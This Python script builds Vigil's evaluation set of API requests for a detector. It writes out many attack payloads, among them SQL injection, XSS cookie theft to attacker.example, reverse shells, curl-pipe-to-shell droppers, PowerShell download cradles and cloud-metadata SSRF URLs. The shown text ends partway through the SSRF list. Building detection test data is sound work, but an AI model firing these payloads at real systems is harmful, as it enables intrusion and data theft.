#!/usr/bin/env python3
"""Generate `shared-model/tests/data/api_cases.jsonl`: Vigil's own evaluation set of API traffic.

The third-party corpus (`/work/shared/corpus`) is a sample of other projects' test strings, mostly
rendered as `GET /?q=<string>`. This set is written by the project, independently of it: attack
payloads of every family issue 3 names, placed where an API carries them (nested JSON values and
keys, query values and names, path segments, headers, cookies, urlencoded and multipart forms,
XML bodies) with the usual evasions; and benign calls a production JSON API sees, many with
content that merely looks suspicious (O'Brien, support tickets that say "drop" and "select",
OData filters, GraphQL documents, code in forum posts).

Records have the corpus's HTTP case shape: id, source "vigil", label, category
(`attack:<family>` or `benign:<kind>`), request {method, path, version, headers, body}, and meta
{family, location, note}. Content that is code or markup on purpose is kept in kinds of its own,
because these are the hardest calls a detector faces and an operator decides per API whether they
occur: `benign:code-content` (code posted on a developer forum), `benign:query-operators` (APIs
whose documented filter syntax uses `$gt`-style operators), `benign:rich-text` (HTML from an
editor, without active content), `benign:templates` (Handlebars / Liquid message templates) and
`benign:devops-config` (build commands and paths a hosting API stores).

Deterministic: no clock, a fixed seed; running it twice gives the same file. Python 3 stdlib only.

    python3 scripts/gen-api-cases.py [OUT]   # default shared-model/tests/data/api_cases.jsonl
"""

import base64
import json
import random
import struct
import sys
import zlib
from pathlib import Path
from urllib.parse import quote, quote_plus, urlencode

RNG = random.Random(20261121)
HOST = "api.shop.example"
BOUNDARY = "----VigilFormBoundary7MA4YWxkTrZu0gW"
MARK = "\x00PAYLOAD\x00"

# ---------------------------------------------------------------------------------------------
# Request building
# ---------------------------------------------------------------------------------------------

CLIENT_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "ShopApp/5.12.0 (Android 14; Pixel 8)",
    "ShopApp/5.11.3 (iOS 17.4.1; iPhone15,2)",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "python-requests/2.31.0",
    "Go-http-client/2.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "curl/8.5.0",
]


def b64url(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def jwt(sub, scope="orders:read orders:write", exp=1767225600):
    """A structurally real HS256 JWT (the signature is a hash of the text, not a real key's)."""
    head = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}, separators=(",", ":")).encode())
    body = b64url(json.dumps({"sub": sub, "scope": scope, "iat": exp - 3600, "exp": exp, "iss": "https://auth.shop.example/"}, separators=(",", ":")).encode())
    sig = b64url(zlib.crc32((head + body).encode()).to_bytes(4, "big") * 8)
    return f"{head}.{body}.{sig}"


def uuid():
    h = "%032x" % RNG.getrandbits(128)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[RNG.randrange(4)]}{h[17:20]}-{h[20:]}"


def hexid(n):
    return "%0*x" % (n, RNG.getrandbits(4 * n))


def base_headers(ua=None, auth=True, accept="application/json"):
    h = [["Host", HOST], ["User-Agent", ua or RNG.choice(CLIENT_UAS)], ["Accept", accept]]
    if auth:
        h.append(["Authorization", "Bearer " + jwt("usr_" + hexid(12))])
    return h


def request(method, path, headers, body=""):
    if body:
        headers = headers + [["Content-Length", str(len(body.encode()))]]
    return {"method": method, "path": path, "version": "HTTP/1.1", "headers": headers, "body": body}


def json_literal(s, escape=""):
    """A JSON string literal for `s` with the characters in `escape` (and all non-ASCII) written as
    \\uXXXX escapes, as some clients (and evasions) write them."""
    out = []
    for c in s:
        if c in escape or ord(c) > 126:
            if ord(c) > 0xFFFF:
                v = ord(c) - 0x10000
                out.append("\\u%04x\\u%04x" % (0xD800 + (v >> 10), 0xDC00 + (v & 0x3FF)))
            else:
                out.append("\\u%04x" % ord(c))
        else:
            out.append(json.dumps(c)[1:-1])
    return '"' + "".join(out) + '"'


def json_body(obj, payload=None, escape="", ascii_only=False):
    """Serialise `obj`; the string MARK inside it (as a value or a key) becomes `payload`."""
    text = json.dumps(obj, ensure_ascii=ascii_only)
    if payload is not None:
        text = text.replace(json.dumps(MARK), json_literal(payload, escape))
    return text


def json_req(method, path, obj, payload=None, escape="", headers=None, ascii_only=False, ctype="application/json"):
    h = (headers or base_headers()) + [["Content-Type", ctype]]
    return request(method, path, h, json_body(obj, payload, escape, ascii_only))


def form_req(method, path, pairs, headers=None, raw=None):
    """An urlencoded form; `raw` is a preencoded body (payloads that carry their own encoding)."""
    body = raw if raw is not None else urlencode(pairs)
    h = (headers or base_headers()) + [["Content-Type", "application/x-www-form-urlencoded"]]
    return request(method, path, h, body)


def multipart_req(path, parts, headers=None):
    """parts: (name, value) or (name, filename, content_type, content)."""
    lines = []
    for p in parts:
        lines.append("--" + BOUNDARY)
        if len(p) == 2:
            lines.append(f'Content-Disposition: form-data; name="{p[0]}"')
            lines.append("")
            lines.append(p[1])
        else:
            lines.append(f'Content-Disposition: form-data; name="{p[0]}"; filename="{p[1]}"')
            lines.append(f"Content-Type: {p[2]}")
            lines.append("")
            lines.append(p[3])
    lines.append("--" + BOUNDARY + "--")
    lines.append("")
    h = (headers or base_headers()) + [["Content-Type", "multipart/form-data; boundary=" + BOUNDARY]]
    return request("POST", path, h, "\r\n".join(lines))


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def xml_req(path, xml, headers=None, ctype="application/xml"):
    h = (headers or base_headers(accept="application/xml")) + [["Content-Type", ctype]]
    return request("POST", path, h, xml)


# URL encodings a payload takes in a query, path or form position.
BROWSER_SAFE = "/:@!$'()*,;=~-._"


def url_enc(p, how):
    if how == "browser":  # what browsers and most HTTP clients leave as is
        return quote(p, safe=BROWSER_SAFE)
    if how == "full":
        return quote(p, safe="")
    if how == "plus":
        return quote_plus(p, safe="")
    if how == "double":
        return quote(quote(p, safe=""), safe="")
    if how == "u":  # IIS-style %uXXXX for everything but letters and digits
        return "".join(c if c.isalnum() else "%%u%04X" % ord(c) for c in p)
    if how == "raw":  # the payload is already in its wire form
        return p
    raise ValueError(how)


# ---------------------------------------------------------------------------------------------
# Attack placements
# ---------------------------------------------------------------------------------------------

# Per family: field / parameter names an API would carry such a value in, endpoints by kind,
# and the custom header it would travel in.
CTX = {
    "sqli": dict(fields=["customer_name", "status", "coupon_code", "email", "order_ref", "region"],
                 json=[("POST", "/api/v1/orders/search"), ("PATCH", "/api/v2/customers/4821"), ("POST", "/api/v1/reports/sales")],
                 get=["/api/v1/products", "/api/v1/orders", "/api/v2/customers"],
                 params=["id", "category", "q", "status", "sort", "user_id"],
                 pathfmt="/api/v1/products/{}/reviews", header="X-Tenant-Id", cookie="tenant"),
    "xss": dict(fields=["display_name", "bio", "comment", "title", "message", "company"],
                json=[("PATCH", "/api/v1/users/me/profile"), ("POST", "/api/v1/tickets/8812/comments"), ("PUT", "/api/v1/stores/44/settings")],
                get=["/api/v1/search", "/api/v1/products", "/api/v1/help/articles"],
                params=["q", "name", "message", "return_to", "error", "title"],
                pathfmt="/api/v1/tags/{}", header="X-Client-Name", cookie="last_search"),
    "traversal": dict(fields=["file", "path", "template", "attachment", "document", "logo"],
                      json=[("POST", "/api/v1/exports/download"), ("POST", "/api/v1/documents/render"), ("PUT", "/api/v1/themes/current")],
                      get=["/api/v1/files", "/api/v1/download", "/api/v1/reports/export"],
                      params=["file", "path", "name", "doc", "template", "lang"],
                      pathfmt="/api/v1/static/{}", header="X-Template", cookie="theme"),
    "rfi": dict(fields=["template_url", "include", "page", "module", "plugin"],
                json=[("POST", "/index.php"), ("POST", "/admin/plugins.php")],
                get=["/index.php", "/wiki/doku.php", "/cms/view.php"],
                params=["page", "file", "include", "template", "module", "inc"],
                pathfmt="/api/v1/include/{}", header="X-Page", cookie="skin"),
    "cmdi": dict(fields=["host", "filename", "branch", "target", "options", "hostname"],
                 json=[("POST", "/api/v1/tools/diagnostics"), ("POST", "/api/v1/media/convert"), ("POST", "/api/v1/deployments")],
                 get=["/api/v1/tools/ping", "/api/v1/network/lookup", "/cgi-bin/status"],
                 params=["host", "ip", "domain", "file", "cmd_arg", "target"],
                 pathfmt="/api/v1/repos/acme/web/branches/{}", header="X-Device-Name", cookie="workspace"),
    "ssrf": dict(fields=["webhook_url", "avatar_url", "callback_url", "feed_url", "image_url", "import_from"],
                 json=[("POST", "/api/v1/webhooks"), ("POST", "/api/v1/integrations/import"), ("PATCH", "/api/v1/users/me")],
                 get=["/api/v1/preview", "/api/v1/images/proxy", "/api/v1/fetch"],
                 params=["url", "image", "src", "target", "feed", "callback"],
                 pathfmt="/api/v1/proxy/{}", header="X-Callback-Url", cookie="return"),
    "jndi": dict(fields=["username", "device", "message", "client_version", "search"],
                 json=[("POST", "/api/v1/auth/login"), ("POST", "/api/v1/events"), ("POST", "/api/v1/feedback")],
                 get=["/api/v1/search", "/api/v1/status", "/api/v1/products"],
                 params=["q", "lang", "ref", "version"],
                 pathfmt="/api/v1/users/{}", header="X-Api-Version", cookie="locale"),
    "ssti": dict(fields=["greeting_template", "subject", "name", "signature", "footer"],
                 json=[("PUT", "/api/v1/notifications/templates/welcome"), ("PATCH", "/api/v1/users/me"), ("POST", "/api/v1/newsletters/preview")],
                 get=["/api/v1/preview", "/api/v1/greeting", "/api/v1/render"],
                 params=["name", "template", "msg", "title"],
                 pathfmt="/api/v1/hello/{}", header="X-Display-Name", cookie="greeting"),
    "ldapi": dict(fields=["username", "uid", "group", "manager", "mail"],
                  json=[("POST", "/api/v1/directory/search"), ("POST", "/api/v1/auth/ldap/login")],
                  get=["/api/v1/directory/users", "/api/v1/directory/groups"],
                  params=["user", "uid", "cn", "group", "mail"],
                  pathfmt="/api/v1/directory/people/{}", header="X-Remote-User", cookie="uid"),
    "crlf": dict(fields=["redirect", "return_url", "locale", "filename"],
                 json=[("POST", "/api/v1/links"), ("POST", "/api/v1/exports")],
                 get=["/api/v1/redirect", "/api/v1/lang", "/api/v1/download"],
                 params=["next", "lang", "url", "redirect_uri"],
                 pathfmt="/api/v1/r/{}", header="X-Locale", cookie="lang"),
}

JSON_SHAPES = [
    lambda f: {"order": {"customer": {f: MARK, "tier": "gold"}, "items": [{"sku": "SKU-1042", "qty": 2}]}},
    lambda f: {"data": {"type": "resources", "id": "7781", "attributes": {f: MARK, "locale": "en-GB"}}},
    lambda f: {"query": {"filters": [{"field": "status", "op": "eq", "value": "open"}, {"field": f, "op": "eq", "value": MARK}]}, "page": {"size": 20}},
    lambda f: {"items": [{"id": 17, "note": "ok"}, {"id": 18, f: MARK}], "meta": {"source": "mobile", "app_version": "5.12.0"}},
    lambda f: {f: MARK, "notify": True, "tags": ["api", "v2"]},
]


class Placer:
    """Puts one payload into one request position. Each position rotates over a family's names."""

    def __init__(self, fam):
        self.fam = fam
        self.c = CTX.get(fam, {})
        self.n = 0

    def pick(self, key):
        items = self.c[key]
        return items[(self.n // 2) % len(items)]

    def place(self, loc, p, field=None):
        self.n += 1
        c = self.c
        if loc == "json-key":
            method, path = self.pick("json")
            return json_req(method, path, {"sort": {MARK: "asc"}, "page": 1}, p)
        if loc in ("json", "json-u"):  # json-u: \uXXXX evasion of the markup characters
            method, path = self.pick("json")
            shape = JSON_SHAPES[self.n % len(JSON_SHAPES)](field or self.pick("fields"))
            esc = "<>'\"$(){}/;=&|`" if loc == "json-u" else ""
            return json_req(method, path, shape, p, escape=esc)
        if loc.startswith("query-name"):
            return request("GET", f"{self.pick('get')}?{url_enc(p, 'browser')}=1&page=1", base_headers())
        if loc.startswith("query"):  # query, query-full, query-plus, query-double, query-u, query-raw
            how = loc.split("-", 1)[1] if "-" in loc else "browser"
            param = self.pick("params")
            return request("GET", f"{self.pick('get')}?{param}={url_enc(p, how)}&limit=20", base_headers())
        if loc.startswith("path"):  # path, path-raw, path-double
            how = {"path": "full", "path-raw": "raw", "path-double": "double"}[loc]
            return request("GET", c["pathfmt"].format(url_enc(p, how)), base_headers())
        if loc == "header-ua":
            return request("GET", self.pick("get") + "?page=1", base_headers(ua=p))
        if loc == "header-referer":
            return request("GET", self.pick("get"), base_headers() + [["Referer", p]])
        if loc == "header-xff":
            return request("GET", self.pick("get"), base_headers() + [["X-Forwarded-For", p]])
        if loc == "header-custom":
            return request("GET", self.pick("get"), base_headers() + [[c["header"], p]])
        if loc.startswith("cookie"):
            v = url_enc(p, "raw" if loc == "cookie-raw" else "browser").replace(";", "%3B").replace(",", "%2C")
            return request("GET", self.pick("get"), base_headers() + [["Cookie", f"sid={hexid(32)}; {c['cookie']}={v}; _ga=GA1.2.1730912811.1716200000"]])
        if loc.startswith("form"):  # form, form-raw
            how = "raw" if loc == "form-raw" else "plus"
            method, path = self.pick("json")
            return form_req("POST", path, None, raw=f"{self.pick('params')}={url_enc(p, how)}&submit=Save")
        if loc == "multipart":
            return multipart_req(self.pick("json")[1], [("description", "Quarterly upload"), (self.pick("fields"), p)])
        if loc == "multipart-filename":
            return multipart_req("/api/v1/uploads", [("folder", "invoices"), ("file", p, "application/pdf", "%PDF-1.4\n% sample\n")])
        if loc == "xml":
            return xml_req(self.pick("json")[1], f'<?xml version="1.0" encoding="UTF-8"?>\n<request><id>7781</id><{self.pick("fields")}>{xml_escape(p)}</{self.pick("fields")}></request>')
        raise ValueError(loc)


# Attack payloads, one entry per case: (payload, note, location, field) with location None to
# rotate over the family's default positions, field None to rotate over its field names.
def A(payload, note, loc=None, field=None):
    return (payload, note, loc, field)


SQLI = [
    A("1' OR '1'='1", "tautology, quoted string"),
    A("' OR 1=1-- -", "tautology with comment"),
    A("admin'--", "comment out the password check", "json"),
    A("1 UNION SELECT username, password FROM users--", "union-based"),
    A("-1' UNION ALL SELECT NULL,NULL,version()-- -", "union-based, PostgreSQL/MySQL version()"),
    A("1' AND SLEEP(5)#", "time-based, MySQL"),
    A("1; WAITFOR DELAY '0:0:5'--", "time-based, stacked, MSSQL"),
    A("1' AND 1=(SELECT 1 FROM PG_SLEEP(5))--", "time-based, PostgreSQL"),
    A("1 AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)", "time-based, Oracle"),
    A("'; DROP TABLE orders;--", "stacked DROP"),
    A("1; INSERT INTO admins(email) VALUES('evil@attacker.example')--", "stacked INSERT"),
    A("1' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a", "boolean blind, substring"),
    A("1 AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64", "boolean blind, Oracle"),
    A("1'/**/UNION/**/SELECT/**/1,2,3--", "comment as whitespace"),
    A("1'\nUNION\nSELECT table_name FROM information_schema.tables--", "newline as whitespace", "query-full"),
    A("1' uNiOn SeLeCt 1,@@version-- -", "mixed case, MySQL"),
    A("1'/*!50000UNION*//*!50000SELECT*/1,2-- -", "MySQL versioned comments"),
    A("' OR 'x'='x", "tautology"),
    A("1' AND extractvalue(1,concat(0x7e,(SELECT database())))-- -", "error-based, MySQL"),
    A("1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))", "error-based, MSSQL"),
    A("1' AND 1=CAST((SELECT current_user) AS int)--", "error-based, PostgreSQL"),
    A("'; EXEC xp_cmdshell 'whoami';--", "stacked, MSSQL xp_cmdshell"),
    A("1 OR 1=1 LIMIT 1 -- ", "numeric tautology"),
    A("id,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)", "ORDER BY injection in a sort parameter", "query"),
    A("(SELECT * FROM (SELECT SLEEP(5))a)", "time-based subquery, MySQL"),
    A("1' AND (SELECT COUNT(*) FROM sqlite_master)>0--", "boolean, SQLite"),
    A("' UNION SELECT sql,NULL FROM sqlite_master--", "union, SQLite schema"),
    A("1' OR BENCHMARK(5000000,MD5('a'))-- -", "time-based, MySQL BENCHMARK"),
    A("x' AND 1=0 UNION SELECT table_name,NULL FROM information_schema.columns WHERE 'a'='a", "union, no comment"),
    A("1' || (SELECT pg_sleep(5)) || '", "time-based, PostgreSQL concatenation"),
    A("' OR ''='", "empty-string tautology", "form"),
    A('1" OR "1"="1', "double-quoted tautology"),
    A('admin")-- -', "closing a parenthesised double-quoted string"),
    A("1') OR ('1'='1", "parenthesised tautology"),
    A("1' GROUP BY 1,2,3-- -", "column enumeration"),
    A("1' ORDER BY 10-- -", "column enumeration with ORDER BY"),
    A("';SELECT LOAD_FILE('/etc/passwd')-- -", "stacked file read, MySQL"),
    A("1' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -", "web shell via INTO OUTFILE"),
    A("1 AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE rownum=1))", "error/OOB, Oracle"),
    A("1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", "boolean, MySQL RLIKE"),
    A("1' AND 'a'=(SELECT 'a' FROM dual WHERE 1=1)-- ", "boolean, Oracle dual"),
    A("1';DECLARE @q varchar(99);SET @q='\\\\attacker.example\\s';EXEC master..xp_dirtree @q;--", "out-of-band, MSSQL xp_dirtree"),
    A("1%27%20OR%201%3D1--", "URL-encoded payload, encoded again in transit", "query-full"),
    A("-1 UNION SELECT 1,group_concat(email,0x3a,password_hash),3 FROM users", "union, MySQL group_concat"),
    A("1' AND updatexml(null,concat(0x3a,version()),null)-- -", "error-based, MySQL updatexml"),
    A("1 OR sleep(5)=0 LIMIT 1", "time-based, numeric"),
    A("1' OR '1'='1' /*", "open block comment"),
    A("test'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x'--", "stacked, PostgreSQL COPY TO PROGRAM"),
    A("1 UNION SELECT NULL, name, pass FROM users WHERE 1=1#", "union, hash comment"),
    A("1' OR '1'='1", "tautology, \\u-escaped quotes in JSON", "json-u"),
    A("' UNION SELECT password FROM users WHERE username='admin'--", "union, + for spaces", "query-plus"),
    A("1 AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT user()),0x71))s), 8446744073709551610, 8446744073709551610)))", "error-based, MySQL integer overflow"),
    A("1'%09OR%091=1--", "tab-encoded whitespace", "query-raw"),
    A("name`=1 OR 1=1 UNION SELECT 1,2#", "backtick identifier injection in a JSON key", "json-key"),
    A("created_at; DROP TABLE users", "stacked query in a sort key", "json-key"),
]
SQLI_LOCS = ["json", "query", "query-plus", "path", "header-xff", "header-ua", "header-custom", "cookie", "form", "multipart", "xml", "query-double", "json"]

XSS = [
    A("<script>alert(document.cookie)</script>", "script tag"),
    A("<img src=x onerror=alert(1)>", "event handler"),
    A("<svg onload=alert(1)>", "SVG onload"),
    A("<svg><script>alert(1)</script></svg>", "script inside SVG"),
    A("<body onload=fetch('//attacker.example/'+document.cookie)>", "cookie exfiltration"),
    A('"><script>alert(1)</script>', "attribute breakout"),
    A("'><img src=x onerror=prompt(1)>", "single-quote attribute breakout"),
    A('<iframe src="javascript:alert(1)"></iframe>', "javascript: iframe"),
    A('<a href="javascript:alert(document.domain)">click</a>', "javascript: link"),
    A("javascript:alert(document.cookie)", "javascript: URL stored in a URL field", "json"),
    A("JaVaScRiPt:alert(1)", "mixed-case javascript: URL", "query"),
    A("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "MathML namespace confusion"),
    A('<math href="javascript:alert(1)">click</math>', "MathML href"),
    A("<details open ontoggle=alert(1)>", "ontoggle"),
    A("<input autofocus onfocus=alert(1)>", "autofocus onfocus"),
    A('<video><source onerror="alert(1)"></video>', "media onerror"),
    A('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">', "data: URL object"),
    A('<embed src="javascript:alert(1)">', "embed"),
    A('<a href="jav&#x61;script:alert(1)">x</a>', "HTML-entity-encoded scheme"),
    A('<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">', "HTML-entity-encoded handler body"),
    A("<scr<script>ipt>alert(1)</scr</script>ipt>", "nested tag to survive one-pass stripping"),
    A("<ScRiPt>alert(1)</sCrIpT>", "mixed-case tag"),
    A("<img src=x oNeRrOr=alert`1`>", "mixed-case handler, template-literal call"),
    A("<svg/onload=alert(1)>", "slash as separator"),
    A("<img/src/onerror=alert(1)>", "slashes as separators"),
    A('" onmouseover="alert(1)', "attribute injection"),
    A('" autofocus onfocus="alert(1)', "attribute injection with autofocus"),
    A("</textarea><script>alert(1)</script>", "textarea breakout"),
    A("</title><script>alert(1)</script>", "title breakout"),
    A("';alert(String.fromCharCode(88,83,83))//", "JavaScript string breakout"),
    A('\\";alert(1);//', "escaped-quote JavaScript breakout"),
    A("${alert(document.domain)}", "template-literal injection into a JS sink", "json"),
    A("<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "base64-hidden code"),
    A("<script>document.write('<script src=//attacker.example/x.js></scr'+'ipt>')</script>", "document.write sink"),
    A("<script>location='javascript:alert(1)'</script>", "location sink"),
    A("<script>alert(1)</script>", "double URL encoding", "query-double"),
    A("<script>alert(1)</script>", "%uXXXX encoding", "query-u"),
    A("<img src=x onerror=alert(1)>", "\\u-escaped markup in JSON", "json-u"),
    A('<base href="//attacker.example/">', "base tag hijack"),
    A('<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "meta refresh"),
    A('<form action="javascript:alert(1)"><button>go</button></form>', "form action"),
    A("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "SVG animate onbegin"),
    A('<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>', "SVG xlink:href"),
    A("data:text/html,<script>alert(1)</script>", "data: URL as a link target", "json"),
    A("<marquee onstart=alert(1)>", "onstart"),
    A("{{constructor.constructor('alert(1)')()}}", "AngularJS client-side template injection"),
    A("<x onclick=alert(1)>click me", "custom element handler"),
    A("<img src=x onerror=alert(1)>", "in a query parameter name", "query-name"),
]
XSS_LOCS = ["json", "query", "header-referer", "form", "multipart", "xml", "cookie", "header-ua", "json", "query-full", "path"]

TRAVERSAL = [
    A("../../../../etc/passwd", "plain traversal"),
    A("..%2f..%2f..%2fetc%2fpasswd", "encoded slashes", "query-raw"),
    A("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "encoded dots and slashes", "path-raw"),
    A("..%252f..%252f..%252fetc%252fpasswd", "double-encoded slashes", "query-raw"),
    A("%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong UTF-8 dots", "query-raw"),
    A("..%c0%af..%c0%af..%c0%afetc/passwd", "overlong UTF-8 slash", "path-raw"),
    A("..\\..\\..\\windows\\win.ini", "Windows backslashes"),
    A("..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", "encoded backslashes", "query-raw"),
    A("C:\\Windows\\System32\\config\\SAM", "absolute Windows path"),
    A("/etc/shadow", "absolute Unix path to a secret file"),
    A("../../../etc/passwd%00.png", "null byte to cut an appended extension", "query-raw"),
    A("....//....//....//etc/passwd", "filter bypass: stripped ../ leaves ../"),
    A("..;/..;/..;/etc/passwd", "Tomcat path parameter trick", "path-raw"),
    A("/proc/self/environ", "process environment"),
    A("php://filter/convert.base64-encode/resource=../config.php", "PHP filter wrapper"),
    A("../../../../var/log/nginx/access.log", "log file read (log poisoning)"),
    A("..%u2216..%u2216windows%u2216win.ini", "%u-encoded set minus (best-fit mapped to a backslash)", "query-raw"),
    A("/..%2f..%2f..%2f..%2fetc/passwd", "encoded traversal in a path segment", "path-raw"),
    A("../../../../root/.ssh/id_rsa", "SSH private key"),
    A("../../../app/.env", "application secrets file"),
    A("%2e%2e/%2e%2e/%2e%2e/etc/hosts", "encoded dots", "path-raw"),
    A("..//..//..//etc//passwd", "doubled slashes"),
    A("/var/www/../../etc/passwd", "traversal after an allowed prefix"),
    A("..\\..\\..\\..\\inetpub\\wwwroot\\web.config", "IIS web.config"),
    A("../../WEB-INF/web.xml", "Java WEB-INF"),
    A("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double-encoded dots and slashes", "path-raw"),
    A("../../../../etc/passwd", "in an upload filename", "multipart-filename"),
    A("/proc/self/cmdline", "process command line"),
    A("....\\\\....\\\\windows\\\\win.ini", "filter bypass with backslashes"),
    A("../../../etc/passwd", "\\u-escaped in JSON", "json-u"),
    A("..%255c..%255cwindows%255cwin.ini", "double-encoded backslashes", "path-raw"),
]
TRAVERSAL_LOCS = ["query", "json", "path", "form", "cookie", "header-custom", "xml", "query-full"]

RFI = [
    A("http://attacker.example/shell.txt?", "remote include with trailing ? to drop the suffix"),
    A("https://attacker.example/payload.php", "remote PHP include"),
    A("ftp://attacker.example/inc.txt", "FTP include"),
    A("\\\\attacker.example\\share\\shell.php", "UNC / SMB include"),
    A("http://198.51.100.7/x.txt%00", "remote include with null byte", "query-raw"),
    A("hTtP://attacker.example/c99.txt?", "mixed-case scheme"),
    A("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "data: wrapper with PHP code"),
    A("php://input", "php://input include (code in the body)"),
    A("expect://id", "expect wrapper"),
    A("http:%2f%2fattacker.example%2fshell.txt%3f", "encoded remote include", "query-raw"),
    A("https://attacker.example/backdoor.txt?", "in a form field", "form"),
    A("http://203.0.113.50/r57.txt??", "remote include by IP", "query"),
]
# PHP reads includes from $_GET, $_POST and $_COOKIE: RFI travels in query, form and cookie values.
RFI_LOCS = ["query", "form", "cookie", "query-full"]

CMDI = [
    A("; cat /etc/passwd", "semicolon"),
    A("| id", "pipe"),
    A("&& whoami", "and-list"),
    A("$(id)", "command substitution"),
    A("`id`", "backticks"),
    A(";${IFS}cat${IFS}/etc/passwd", "$IFS for spaces"),
    A("$(curl -s http://attacker.example/x.sh|sh)", "download and run"),
    A("; wget http://attacker.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "dropper"),
    A("|| nc -e /bin/sh 198.51.100.9 4444", "netcat reverse shell"),
    A("; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", "bash reverse shell"),
    A("127.0.0.1; ls -la /", "after a valid host"),
    A("8.8.8.8 && cat /etc/shadow", "after a valid IP"),
    A("x\nid", "newline separator", "query-full"),
    A(";/bin/c?t /e??/p?ss??", "glob evasion"),
    A(";c'a't /etc/passwd", "quote-split command name"),
    A(";ca\\t /etc/passwd", "backslash-split command name"),
    A("$(printf '\\x69\\x64')", "hex-built command"),
    A("| python3 -c 'import os;os.system(\"id\")'", "interpreter one-liner"),
    A("; ping -c 10 198.51.100.9", "ping for blind confirmation"),
    A("; sleep 10", "time-based blind"),
    A("a`sleep 5`b", "backticks inside a value"),
    A(";{cat,/etc/passwd}", "brace expansion for spaces"),
    A("$(</etc/passwd)", "file read by redirection"),
    A(";echo${IFS}aWQ=|base64${IFS}-d|sh", "base64-hidden command"),
    A("report.pdf; rm -rf /tmp/*", "in a filename"),
    A("& whoami", "Windows ampersand"),
    A("| type C:\\Windows\\win.ini", "Windows type"),
    A("& dir C:\\", "Windows dir"),
    A("&& powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\"", "PowerShell download cradle"),
    A("| net user hacker P4ssw0rd! /add", "Windows account creation"),
    A("& cmd /c ver", "cmd /c"),
    A("& certutil -urlcache -split -f http://attacker.example/a.exe a.exe", "certutil download"),
    A("|| ping -n 5 127.0.0.1", "Windows time-based blind"),
    A("main;id", "in a git branch name", "path"),
    A("logo.png;curl attacker.example|sh", "in an upload filename", "multipart-filename"),
    A("& ipconfig /all", "Windows recon, + for spaces", "query-plus"),
]
CMDI_LOCS = ["json", "query", "form", "xml", "header-custom", "cookie", "multipart", "header-ua"]

SSRF = [
    A("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "AWS metadata"),
    A("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", "GCP metadata"),
    A("http://169.254.169.254/metadata/instance?api-version=2021-02-01", "Azure metadata"),
    A("http://100.100.100.200/latest/meta-data/", "Alibaba Cloud metadata"),
    A("http://127.0.0.1:6379/", "loopback Redis"),
    A("http://localhost:8080/admin", "localhost admin"),
    A("http://2130706433/", "loopback as a decimal integer"),
    A("http://0x7f000001/", "loopback in hex"),
    A("http://0177.0.0.1/", "loopback in octal"),
    A("http://017700000001/", "loopback as one octal number"),
    A("http://[::ffff:127.0.0.1]/", "IPv4-mapped IPv6 loopback"),
    A("http://[::ffff:a9fe:a9fe]/latest/meta-data/", "IPv4-mapped IPv6 metadata in hex"),
    A("http://[::1]:8500/v1/agent/self", "IPv6 loopback Consul"),
    A("http://0/", "0 as loopback"),
    A("http://127.1/", "short-form loopback"),
    A("http://169.254.169.254.nip.io/latest/meta-data/", "wildcard DNS to metadata"),
    A("http://127.0.0.1.nip.io:9200/_cat/indices", "wildcard DNS to loopback Elasticsearch"),
    A("http://localtest.me/admin", "public name resolving to loopback"),
    A("http://2852039166/latest/meta-data/", "metadata as a decimal integer"),
    A("http://0xa9fea9fe/latest/meta-data/", "metadata in hex"),
    A("http://0251.0376.0251.0376/latest/meta-data/", "metadata in octal"),
    A("gopher://127.0.0.1:6379/_SET%20x%20%22%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%22%0D%0ASAVE%0D%0A", "gopher to Redis"),
    A("gopher://localhost:25/_HELO%20attacker.example%0D%0AMAIL%20FROM%3A%3Ca%40attacker.example%3E", "gopher to SMTP"),
    A("dict://127.0.0.1:11211/stats", "dict to memcached"),
    A("file:///etc/passwd", "file scheme"),
    A("file:///c:/windows/win.ini", "file scheme, Windows"),
